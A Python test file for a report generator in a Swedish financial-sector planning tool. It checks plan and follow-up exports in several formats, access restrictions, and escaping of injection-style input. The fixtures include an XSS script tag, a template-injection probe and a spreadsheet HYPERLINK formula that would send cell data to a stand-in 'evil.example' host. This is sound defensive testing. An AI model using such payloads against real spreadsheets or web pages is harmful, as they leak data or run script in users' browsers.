"""The plan and the follow-up of a simulated cycle, in every format; workbooks read back with openpyxl."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from arshjul.reports.build import build, mine
from arshjul.reports.output import write
from arshjul.states import Actor
from arshjul.workflow import ticker
from tests.conftest import COORDINATOR, DECIDER, OWNER, PROPOSER, REFERENCE, Sector, at

SECRET = "Hemlig: reservrutiner för RIX"
TRICKY = "<script>alert(1)</script> {{ 7*7 }} | pipe"


@pytest.fixture
def cycle(sector: Sector) -> dict[str, str]:
    """2027: four decided (one restricted), done on time, late, never, ongoing; one left out."""
    ticker.start(sector.engine, sector.clock)
    sector.clock.set(at("2026-02-10 10:00"))
    ids = {
        "on_time": sector.propose("Övning: kontanter vid elavbrott"),
        "late": sector.propose(TRICKY),
        "secret": sector.propose(SECRET, restricted_to=["Sydbanken AB"]),
        "ongoing": sector.propose("Analys av reservlösningar"),
        "left": sector.propose("Seminarium"),
    }
    sector.clock.set(at("2026-05-12 10:00"))
    decided = [ids[k] for k in ("on_time", "late", "secret", "ongoing")]
    sector.move("prioritise", *decided, actor=COORDINATOR)
    sector.clock.set(at("2026-08-12 10:00"))
    sector.move(
        "decide",
        ids["on_time"],
        ids["late"],
        ids["secret"],
        actor=DECIDER,
        owner=OWNER,
        due=date(2027, 5, 31),
    )
    sector.move("decide", ids["ongoing"], actor=DECIDER, owner=OWNER, due=date(2028, 3, 31))
    sector.clock.set(at("2026-10-01 00:00"))
    ticker.tick(
        sector.engine, sector.clock, sector.calendar
    )  # the deadline, the information meetings
    sector.clock.set(at("2027-01-20 10:00"))
    sector.move("start", ids["on_time"], ids["late"], ids["ongoing"], actor=OWNER)
    sector.clock.set(at("2027-05-20 10:00"))
    sector.move("complete", ids["on_time"], actor=OWNER, note="Övningen hölls 18 maj")
    sector.clock.set(at("2027-06-15 10:00"))
    sector.move("complete", ids["late"], actor=OWNER)
    sector.clock.set(at("2027-11-15 10:00"))
    sector.move(
        "follow_up",
        ids["on_time"],
        actor=COORDINATOR,
        assessment="achieved",
        note="Mycket bra",
    )
    sector.move(
        "follow_up", ids["ongoing"], actor=COORDINATOR, assessment="partly", note="Fortsätter 2028"
    )
    return ids


def reader(sector: Sector, email: str) -> Actor:
    person = sector.uow(write=False)
    with person as uow:
        found = uow.repo.person(email)
    assert found is not None
    return found.as_actor()


def test_the_plan_has_the_decided_measures_the_calendar_and_what_was_left_out(
    sector: Sector, cycle: dict[str, str]
) -> None:
    """Every decided measure with owner, quarters, completion and status; the information meetings; the reason."""
    report = build(
        sector.uow(write=False), sector.calendar, "plan", 2027, reader(sector, COORDINATOR), "sv"
    )
    rows = {row.id: row for row in report.rows}
    assert set(rows) == {cycle[k] for k in ("on_time", "late", "secret", "ongoing")}
    assert rows[cycle["on_time"]].quarters == (True, True, False, False)
    assert rows[cycle["ongoing"]].quarters == (True, True, True, True)
    assert (rows[cycle["on_time"]].status, rows[cycle["ongoing"]].status) == ("done", "ongoing")
    assert [m.title for m in report.meetings] == [
        "FTPOS: informationsmöte 1 2027",
        "FTPOS: informationsmöte 2 2027",
    ]
    [left] = report.left_out
    assert (left.id, left.reason) == (cycle["left"], "Ingår inte i den beslutade planen")


def test_the_plan_in_every_format(sector: Sector, cycle: dict[str, str], tmp_path: Path) -> None:
    """Markdown and HTML carry the text literally (escaped in HTML); CSV parses; the workbook opens."""
    report = build(
        sector.uow(write=False), sector.calendar, "plan", 2027, reader(sector, COORDINATOR), "sv"
    )
    markdown = str(write(report, "md", None))
    assert (
        "# Verksamhetsplan FTPOS 2027" in markdown
        and "{{ 7\\*7 }}" in markdown
        and "\\| pipe" in markdown
    )
    html = str(write(report, "html", None))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>alert" not in html
    assert "{{ 7*7 }}" in html
    rows = list(csv.reader(io.StringIO(str(write(report, "csv", None)))))
    assert rows[0] == ["Nr", "Åtgärd", "Ansvar", "Q1", "Q2", "Q3", "Q4", "Beräknat klart", "Status"]
    assert [cycle["late"], TRICKY, OWNER, "x", "x", "", "", "2027-05-31", "Klart"] in rows

    target = tmp_path / "plan.xlsx"
    write(report, "xlsx", target)
    book = load_workbook(target, read_only=True)
    assert book.sheetnames == ["Beslutade åtgärder", "Möteskalender", "Bortprioriterade förslag"]
    measures = [list(r) for r in book["Beslutade åtgärder"].iter_rows(values_only=True)]
    assert measures[0] == [
        "Nr",
        "Åtgärd",
        "Ansvar",
        "Q1",
        "Q2",
        "Q3",
        "Q4",
        "Beräknat klart",
        "Status",
    ]
    by_id = {r[0]: r for r in measures[1:]}
    assert by_id[cycle["on_time"]][1:] == [
        "Övning: kontanter vid elavbrott",
        OWNER,
        "x",
        "x",
        None,
        None,
        "2027-05-31",
        "Klart",
    ]
    assert by_id[cycle["ongoing"]][-1] == "Pågående"
    calendar = [list(r) for r in book["Möteskalender"].iter_rows(values_only=True)]
    assert calendar[1][0] == "2027-03-15 10:00"
    left = [list(r) for r in book["Bortprioriterade förslag"].iter_rows(values_only=True)]
    assert left[1][0] == cycle["left"] and left[1][3] == "Ingår inte i den beslutade planen"
    book.close()


def test_the_follow_up_counts_outcomes_and_lists_assessments_and_what_carries_over(
    sector: Sector, cycle: dict[str, str], tmp_path: Path
) -> None:
    """Done on time, late, not done; assessments and notes; the chart; the workbook's extra columns."""
    report = build(
        sector.uow(write=False),
        sector.calendar,
        "followup",
        2027,
        reader(sector, COORDINATOR),
        "en",
    )
    assert report.counts == {"on_time": 1, "late": 1, "not_done": 2}
    rows = {row.id: row for row in report.rows}
    assert (rows[cycle["on_time"]].outcome, rows[cycle["on_time"]].completed) == (
        "on_time",
        "2027-05-20",
    )
    assert rows[cycle["late"]].outcome == "late"
    assert (rows[cycle["ongoing"]].assessment, rows[cycle["ongoing"]].note) == (
        "partly",
        "Fortsätter 2028",
    )
    markdown = str(write(report, "md", None))
    assert "| Done on time | 1 |" in markdown and "| Not done | 2 |" in markdown
    assert (
        f"- {cycle['ongoing']} Analys av reservlösningar: ongoing, continues (Fortsätter 2028)"
        in markdown
    )
    html = str(write(report, "html", None))
    assert "<svg" in html and 'aria-label="Outcome"' in html
    target = tmp_path / "followup.xlsx"
    write(report, "xlsx", target)
    book = load_workbook(target, read_only=True)
    header, *body = [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    assert header[-4:] == ["Done", "Outcome", "Assessment", "Note"]
    assert [cycle["on_time"], "2027-05-20", "Done on time", "Achieved", "Mycket bra"] == [
        next(r for r in body if r[0] == cycle["on_time"])[i] for i in (0, 9, 10, 11, 12)
    ]
    book.close()


def test_a_restricted_measure_is_a_restricted_measure_to_outsiders_in_every_format(
    sector: Sector, cycle: dict[str, str], tmp_path: Path
) -> None:
    """The reference member sees the restricted measure's id and state only; the insiders see it."""
    outsider = build(
        sector.uow(write=False), sector.calendar, "plan", 2027, reader(sector, REFERENCE), "sv"
    )
    insider = build(
        sector.uow(write=False), sector.calendar, "plan", 2027, reader(sector, PROPOSER), "sv"
    )
    assert [r.measure for r in insider.rows if r.id == cycle["secret"]] == [SECRET]
    [hidden] = [r for r in outsider.rows if r.id == cycle["secret"]]
    assert (hidden.measure, hidden.owner, hidden.due, hidden.restricted) == (
        "Begränsad åtgärd",
        "",
        "",
        True,
    )
    nobody = build(sector.uow(write=False), sector.calendar, "followup", 2027, None, "sv")
    for report in (outsider, nobody):
        for fmt in ("md", "html", "csv"):
            assert SECRET not in str(write(report, fmt, None))
        target = tmp_path / f"{report.kind}.xlsx"
        write(report, "xlsx", target)
        book = load_workbook(target, read_only=True)
        assert not any(
            SECRET in str(v)
            for sheet in book.worksheets
            for r in sheet.iter_rows(values_only=True)
            for v in r
        )
        book.close()


def test_text_that_looks_like_a_formula_stays_text_in_workbooks_and_csv(
    sector: Sector, tmp_path: Path
) -> None:
    """A proposer's title or FI's reason beginning with = + - @ is never a live formula."""
    sector.clock.set(at("2026-02-10 10:00"))
    link = '=HYPERLINK("http://evil.example/?"&B3,"Klicka")'
    left_out, decided = sector.propose(link), sector.propose("@SUM(A1:A9)")
    sector.clock.set(at("2026-05-12 10:00"))
    sector.move("deprioritise", left_out, actor=COORDINATOR, note="=1+1")
    sector.move("prioritise", decided, actor=COORDINATOR)
    sector.clock.set(at("2026-08-12 10:00"))
    sector.move("decide", decided, actor=DECIDER, owner=OWNER, due=date(2027, 5, 31))
    report = build(
        sector.uow(write=False), sector.calendar, "plan", 2027, reader(sector, COORDINATOR), "sv"
    )
    target = tmp_path / "plan.xlsx"
    write(report, "xlsx", target)
    book = load_workbook(target)
    left, measures = book["Bortprioriterade förslag"], book["Beslutade åtgärder"]
    assert (left["A2"].value, left["B2"].value, left["D2"].value) == (left_out, link, "=1+1")
    assert (measures["A2"].value, measures["B2"].value) == (decided, "@SUM(A1:A9)")
    assert {left["B2"].data_type, left["D2"].data_type, measures["B2"].data_type} == {"s"}
    rows = list(csv.reader(io.StringIO(str(write(report, "csv", None)))))
    assert rows[1][:2] == [decided, "'@SUM(A1:A9)"]


def test_my_organisations_items_with_their_history(sector: Sector, cycle: dict[str, str]) -> None:
    """A proposer's view: Nordbanken's items in every cycle, each with its history."""
    view = mine(sector.uow(write=False), sector.calendar, reader(sector, PROPOSER), "en")
    assert {i["id"] for i in view.items} == set(cycle.values())
    first = next(i for i in view.items if i["id"] == cycle["on_time"])
    assert [h["event"] for h in first["history"]] == [
        "submit",
        "prioritise",
        "decide",
        "start",
        "complete",
        "follow_up",
    ]
    html = str(write(view, "html", None))
    assert "Our items: Nordbanken AB" in html and "&lt;script&gt;" in html
